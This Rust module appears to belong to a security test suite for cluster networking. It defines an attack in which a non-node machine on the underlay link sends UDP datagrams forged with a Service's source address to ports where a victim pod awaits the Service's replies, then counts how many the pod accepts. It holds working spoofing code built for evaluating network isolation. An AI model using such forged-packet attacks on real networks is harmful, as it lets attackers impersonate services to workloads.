//! A machine on the nodes' link replies in the place of a Service.

use std::net::SocketAddr;

use anyhow::Result;

use crate::attack::Attack;
use crate::frame::{Macs, udp};
use crate::gain::Gain;
use crate::held::{Datagrams, FORGED};
use crate::launch::launch;
use crate::scene::{Scene, mac_of};

pub(super) const ATTACK: Attack = Attack {
    name: "replies as a Service, from the underlay",
    idea: "A machine that is not a node sends datagrams with the address of a Service to the port at which a \
           pod waits for a reply of the Service. The pod would take them for it: its socket receives one.",
    needs_check: true,
    run,
};

fn run(scene: &Scene) -> Result<Gain> {
    let web = scene.services.web;
    let held = Datagrams::open(&scene.victim, web)?;
    let macs =
        Macs { from: mac_of(&scene.machine, "uplink")?, to: mac_of(scene.near()?, "uplink")? };
    let mut frames = Vec::new();
    for port in held.ports()? {
        frames.push(udp(macs, web, SocketAddr::new(scene.victim.address()?, port), FORGED)?);
    }
    launch(scene, &scene.machine, "uplink", &frames)?;
    Ok(Gain::of_datagrams(held.forged()?, frames.len()))
}
